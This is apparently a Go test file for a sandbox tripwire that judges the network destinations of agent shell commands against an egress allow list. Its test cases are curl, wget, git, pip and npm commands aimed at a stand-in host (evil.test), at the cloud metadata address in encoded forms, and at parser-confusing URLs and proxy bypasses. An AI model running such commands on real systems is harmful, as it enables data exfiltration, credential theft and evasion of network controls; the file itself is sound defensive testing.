package tripwire_test

import (
	"context"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ironvise/ironvise/internal/egress"
	"github.com/ironvise/ironvise/internal/intent"
	"github.com/ironvise/ironvise/internal/tripwire"
	"github.com/ironvise/ironvise/internal/verdict"
)

// The allow list of these tests, parsed as ECTO_SANDBOX_ALLOWED_DOMAINS
// and ECTO_SANDBOX_EGRESS_ALLOW_CIDRS are.
const (
	testDomains = "allowed.test,github.com,*.github.com,pypi.org,files.pythonhosted.org,registry.npmjs.org,bücher.test"
	testCIDRs   = "10.231.0.0/24"
)

func egressRules(t testing.TB, domains, cidrs string) *egress.Rules {
	t.Helper()
	d, err := egress.ParseDomains(domains)
	if err != nil {
		t.Fatal(err)
	}
	c, err := egress.ParseCIDRs(cidrs)
	if err != nil {
		t.Fatal(err)
	}
	return egress.NewRules(d, c)
}

// newTripwire builds the tripwire with the defaults of a workspace and,
// when r is not nil, proxy mode with r.
func newTripwire(t testing.TB, r *egress.Rules) *tripwire.Tripwire {
	t.Helper()
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := tripwire.DefaultConfig(tripwire.LoadOptions{Workspace: ws})
	if err != nil {
		t.Fatal(err)
	}
	opt := tripwire.Options{Workspace: ws}
	if r != nil {
		opt.Egress = r
	}
	return tripwire.New(cfg, opt)
}

func checkCommand(tw *tripwire.Tripwire, cmd string) verdict.Verdict {
	in := &intent.Intent{Action: intent.RunCommand, Command: cmd}
	return tw.Check(tw.View(context.Background(), in))
}

// netCase is a command and what the proxy would answer for the
// destination it names: want is the proxy's verdict (from the same
// Rules), or a tripwire verdict for a URL whose host is ambiguous.
type netCase struct {
	name, cmd string
	want      func(r *egress.Rules) verdict.Verdict
}

func host(h string) func(*egress.Rules) verdict.Verdict {
	return func(r *egress.Rules) verdict.Verdict { return r.CheckHost(h) }
}

func ip(a string) func(*egress.Rules) verdict.Verdict {
	return func(r *egress.Rules) verdict.Verdict { return r.CheckIP(netip.MustParseAddr(a)) }
}

func invalid(msg string) func(*egress.Rules) verdict.Verdict {
	return func(*egress.Rules) verdict.Verdict {
		return verdict.Denial(verdict.CheckTripwire, verdict.URLInvalid, msg)
	}
}

func pass(*egress.Rules) verdict.Verdict { return verdict.Pass(verdict.CheckTripwire) }

// TestProxyModeAgreesWithProxy: in proxy mode a command to an allowed
// host passes, and one to a host or address the proxy refuses is refused
// before it runs with the proxy's code and message (issue 18 item 5).
func TestProxyModeAgreesWithProxy(t *testing.T) {
	r := egressRules(t, testDomains, testCIDRs)
	tw := newTripwire(t, r)
	cases := []netCase{
		// Allowed hosts are not refused.
		{"curl allowed", "curl -fsS https://allowed.test/x", pass},
		{"curl uppercase trailing dot", "curl https://ALLOWED.TEST./x", pass},
		{"curl without scheme", "curl allowed.test/path", pass},
		{"curl --url", "curl --url https://allowed.test/", pass},
		{"curl userinfo on allowed host", "curl https://user:tok@allowed.test/", pass},
		{"curl IDNA", "curl https://BÜCHER.test/", pass},
		{"curl punycode", "curl https://xn--bcher-kva.test/", pass},
		{"curl opted-in address", "curl http://10.231.0.5:8080/", pass},
		{"curl opted-in IPv4-mapped", "curl 'http://[::ffff:10.231.0.5]/'", pass},
		{"curl static host, dynamic path", `curl "https://allowed.test/$p"`, pass},
		{"wget allowed", "wget -q https://allowed.test/f.tgz", pass},
		{"git clone https", "git clone --depth 1 https://github.com/o/r.git", pass},
		{"git clone scp-like", "git clone git@github.com:o/r.git dir", pass},
		{"git wildcard", "git ls-remote https://api.github.com/o/r", pass},
		{"git fetch remote name and refspec", "git fetch origin main:main", pass},
		{"git push refspec", "git push origin HEAD:refs/heads/x", pass},
		{"git local clone", "git clone ./a b", pass},
		{"pip --index-url", "pip install --index-url https://pypi.org/simple requests", pass},
		{"pip -i", "pip3 install -i https://pypi.org/simple x", pass},
		{"python -m pip", "python3 -m pip install --extra-index-url https://pypi.org/simple x", pass},
		{"pip vcs", "pip install 'git+https://github.com/o/r.git'", pass},
		{"pip PEP 508", "pip install 'pkg @ https://files.pythonhosted.org/p.whl'", pass},
		{"pip find-links directory", "pip install -f ./wheels x", pass},
		{"npm --registry", "npm install --registry https://registry.npmjs.org/ x", pass},
		{"curl brace glob in the path", "curl 'https://allowed.test/{a,b}.html' 'https://allowed.test/p[1-3].html'", pass},
		{"curl brace glob in the host", "curl 'https://{www,api}.github.com/'", pass},
		{"git clone option values", "git clone -b main --depth 1 -o up https://github.com/o/r", pass},
		{"query hides an at sign", "curl 'https://allowed.test?@evil.test/'", pass},
		{"not a network program", "echo https://evil.test/; grep evil.test notes.txt", pass},
		// Destinations computed at run time are left to the proxy.
		{"URL in a variable", `u=https://evil.test/; curl "$u"`, pass},
		{"host in a variable", `curl "https://$h/x"`, pass},
		{"host continues in an expansion", `curl "https://evil.test$x"`, pass},

		// Hosts off the list: the proxy's reason.
		{"curl off the list", "curl https://evil.test/", host("evil.test")},
		{"curl without scheme off the list", "curl evil.test", host("evil.test")},
		{"curl second URL", "curl https://allowed.test/ https://evil.test/", host("evil.test")},
		{"userinfo names the allowed host", "curl https://allowed.test@evil.test/", host("evil.test")},
		{"allowed name as a label", "curl https://allowed.test.evil.test/", host("allowed.test.evil.test")},
		{"suffix without a label boundary", "curl https://evilgithub.com/", host("evilgithub.com")},
		{"wildcard does not cover look-alike", "curl https://gіthub.com/", host("gіthub.com")},
		{"static host, dynamic path", `curl "https://evil.test/$p"`, host("evil.test")},
		{"curl brace glob reaching off the list", "curl 'https://{allowed,evil}.test/'", host("evil.test")},
		{"fragment hides the host", "curl 'http://evil.test#@allowed.test/'", host("evil.test")},
		{"git fetch after an option value", "git fetch --depth 1 git@evil.test:r", host("evil.test")},
		{"curl DNS over HTTPS elsewhere", "curl --doh-url https://evil.test/dns-query https://allowed.test/", host("evil.test")},
		{"wget off the list", "wget http://evil.test/x", host("evil.test")},
		{"git clone off the list", "git clone https://evil.test/r.git", host("evil.test")},
		{"git scp-like off the list", "git clone git@evil.test:r.git", host("evil.test")},
		{"git ls-remote", "git ls-remote https://evil.test/r", host("evil.test")},
		{"git fetch URL", "git fetch https://evil.test/r main:main", host("evil.test")},
		{"git insteadOf rewrite", "git -c url.https://evil.test/.insteadOf=https://github.com/ clone https://github.com/o/r",
			host("evil.test")},
		{"git clone -c remote url", "git clone -c remote.origin.pushurl=https://evil.test/r https://github.com/o/r", host("evil.test")},
		{"git remote add", "git remote add x https://evil.test/r", host("evil.test")},
		{"pip --index-url", "pip install --index-url https://evil.test/simple x", host("evil.test")},
		{"pip --index-url=", "pip install --index-url=https://evil.test/simple x", host("evil.test")},
		{"python -m pip -i", "python3 -m pip install -i https://evil.test/simple x", host("evil.test")},
		{"python -Im pip", "python3 -Im pip install -i https://evil.test/simple x", host("evil.test")},
		{"pip vcs", "pip install 'git+https://evil.test/r.git'", host("evil.test")},
		{"pip PEP 508", "pip install 'pkg @ https://evil.test/p.whl'", host("evil.test")},
		{"npm --registry=", "npm i --registry=https://evil.test/ x", host("evil.test")},
		{"npm tarball", "npm install https://evil.test/p.tgz", host("evil.test")},
		{"through a wrapper", "timeout 5 curl https://evil.test/", host("evil.test")},
		{"inside sh -c", `sh -c 'curl https://evil.test/'`, host("evil.test")},
		{"inside a substitution", `echo "$(curl -s https://evil.test/)"`, host("evil.test")},
		// Taking the proxy away reaches nothing (there is no route out
		// but the proxy); the destination is judged all the same.
		{"env -u HTTPS_PROXY", "env -u HTTPS_PROXY curl https://evil.test/", host("evil.test")},
		{"ALL_PROXY=", "ALL_PROXY= HTTPS_PROXY= curl https://evil.test/", host("evil.test")},
		{"--noproxy", "curl --noproxy '*' https://evil.test/", host("evil.test")},
		{"git -c http.proxy", "git -c http.proxy= clone https://evil.test/r", host("evil.test")},
		{"localhost", "curl http://localhost:8000/", host("localhost")},

		// Addresses: the opt-in, metadata and embedded IPv4 forms.
		{"metadata", "curl http://169.254.169.254/latest/meta-data/", ip("169.254.169.254")},
		{"metadata IPv4-mapped", "curl 'http://[::ffff:169.254.169.254]/'", ip("::ffff:169.254.169.254")},
		{"metadata NAT64", "curl 'http://[64:ff9b::a9fe:a9fe]/'", ip("64:ff9b::a9fe:a9fe")},
		{"metadata 6to4", "curl 'http://[2002:a9fe:a9fe::]/'", ip("2002:a9fe:a9fe::")},
		{"loopback IPv6", "curl 'http://[::1]:8080/'", ip("::1")},
		{"decimal IPv4", "curl http://2130706433/", ip("127.0.0.1")},
		{"hex IPv4", "curl http://0x7f.1/", ip("127.0.0.1")},
		{"octal IPv4", "curl http://0177.0.0.1/", ip("127.0.0.1")},
		{"short IPv4", "wget http://10.1/", ip("10.0.0.1")},
		{"private outside the opt-in", "curl http://10.9.9.9/", ip("10.9.9.9")},
		{"public literal", "curl https://93.184.216.34/", ip("93.184.216.34")},
		{"metadata by git", "git clone http://169.254.169.254/r", ip("169.254.169.254")},
		{"metadata by pip", "pip install -i http://169.254.169.254/simple x", ip("169.254.169.254")},

		// Hosts parsers read differently are refused as ambiguous.
		{"backslash", `curl 'https://allowed.test\@evil.test/'`, invalid(
			`"https://allowed.test\\@evil.test/": a backslash in the host part: clients disagree on which host it names; write the URL with / only`)},
		{"percent-encoded host", "curl https://evil%2etest/", invalid(
			`"https://evil%2etest/": a percent-encoded host: clients disagree on which host it names; write the host name plainly`)},
		{"percent-encoded allowed host", "curl https://allowed%2etest/", invalid(
			`"https://allowed%2etest/": a percent-encoded host: clients disagree on which host it names; write the host name plainly`)},
		{"curl brace glob left as written with -g", "curl -g 'https://{allowed,evil}.test/'", invalid(
			`"https://{allowed,evil}.test/": cannot tell which host it names: parse "https://{allowed,evil}.test/": invalid character "{" in host name`)},
		{"IPv6 zone", "curl 'http://[fe80::1%25eth0]/'", invalid(
			`"http://[fe80::1%25eth0]/": a percent-encoded host: clients disagree on which host it names; write the host name plainly`)},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := checkCommand(tw, tc.cmd)
			want := tc.want(r)
			if want.Decision == verdict.Allow {
				if got.Denied() {
					t.Fatalf("%s: refused %s: %s", tc.cmd, got.Code, got.Message)
				}
				return
			}
			if !want.Denied() {
				t.Fatalf("test error: the proxy allows %s", tc.cmd)
			}
			if got.Check != verdict.CheckTripwire || got.Decision != verdict.Deny || got.Code != want.Code || got.Message != want.Message {
				t.Fatalf("%s:\n got %s %s %s %q\nwant tripwire deny %s %q", tc.cmd, got.Check, got.Decision, got.Code, got.Message, want.Code, want.Message)
			}
		})
	}
}

// TestModeNoneUnchanged: without egress rules (ECTO_SANDBOX_NETWORK=none)
// the destinations of commands are not judged, as before proxy mode.
func TestModeNoneUnchanged(t *testing.T) {
	tw := newTripwire(t, nil)
	if tw.Egress() != nil {
		t.Fatal("mode none has egress rules")
	}
	for _, cmd := range []string{
		"curl https://evil.test/", "curl http://169.254.169.254/", "git clone git@evil.test:r.git",
		"pip install -i https://evil.test/simple x", "curl https://evil%2etest/",
	} {
		if v := checkCommand(tw, cmd); v.Denied() {
			t.Errorf("%s: refused in mode none: %s %s", cmd, v.Code, v.Message)
		}
	}
	// Rules already refused in every mode stay: a proxy of the command's
	// own choosing (-x, --proxy, --socks5, --connect-to, --resolve).
	for _, cmd := range []string{"curl -x http://p:1 https://allowed.test/", "curl --connect-to allowed.test:443:evil.test:443 https://allowed.test/",
		"curl --resolve allowed.test:443:169.254.169.254 https://allowed.test/"} {
		for _, tw := range []*tripwire.Tripwire{tw, newTripwire(t, egressRules(t, testDomains, testCIDRs))} {
			if v := checkCommand(tw, cmd); v.Code != verdict.CmdBannedArgs {
				t.Errorf("%s: got %s %s, want cmd_banned_args", cmd, v.Code, v.Message)
			}
		}
	}
}

// TestWithEgress: a session narrows the list by passing its own rules.
func TestWithEgress(t *testing.T) {
	wide := newTripwire(t, egressRules(t, testDomains, testCIDRs))
	narrow := wide.WithEgress(egressRules(t, "pypi.org", ""))
	if v := checkCommand(wide, "curl https://allowed.test/"); v.Denied() {
		t.Fatalf("wide: %s", v.Message)
	}
	v := checkCommand(narrow, "curl https://allowed.test/")
	if v.Code != verdict.EgressDomainNotAllowed {
		t.Fatalf("narrow: got %s %s", v.Code, v.Message)
	}
	if off := wide.WithEgress(nil); off.Egress() != nil || checkCommand(off, "curl https://evil.test/").Denied() {
		t.Fatal("WithEgress(nil) does not turn judging off")
	}
	// A typed nil is no rules, not a crash.
	var none *egress.Rules
	if v := checkCommand(wide.WithEgress(none), "curl https://evil.test/"); v.Denied() {
		t.Fatalf("typed nil rules: %s", v.Message)
	}
	if strings.Contains(wide.Config().SHA256, " ") {
		t.Fatal("config hash")
	}
}

// FuzzProxyModeCommand: reading the destinations of any command line in
// proxy mode never panics, and a refusal always carries a code and a
// message.
func FuzzProxyModeCommand(f *testing.F) {
	for _, s := range []string{
		"curl https://evil.test/", "git -c url.insteadOf=x clone https://github.com/o/r", "git -c url..insteadof=x fetch y",
		"python3 -m pip install -i https://evil.test/ x", "python3 -m", "pip install 'a @ b://c'", "curl '{a,b}://x'",
		"npm --@s:registry=https://evil.test/ i", "git push [::1]:r", "wget 0x7f.1", "curl http://4294967296/", "curl http://0x/",
		"git fetch --depth", "curl 'https://x.test/{'", "curl ://x", "pip install git+://x",
	} {
		f.Add(s)
	}
	tw := newTripwire(f, egressRules(f, testDomains, testCIDRs))
	f.Fuzz(func(t *testing.T, cmd string) {
		v := checkCommand(tw, cmd)
		if v.Denied() && (v.Code == "" || v.Message == "") {
			t.Fatalf("%q: refusal without a reason: %+v", cmd, v)
		}
	})
}
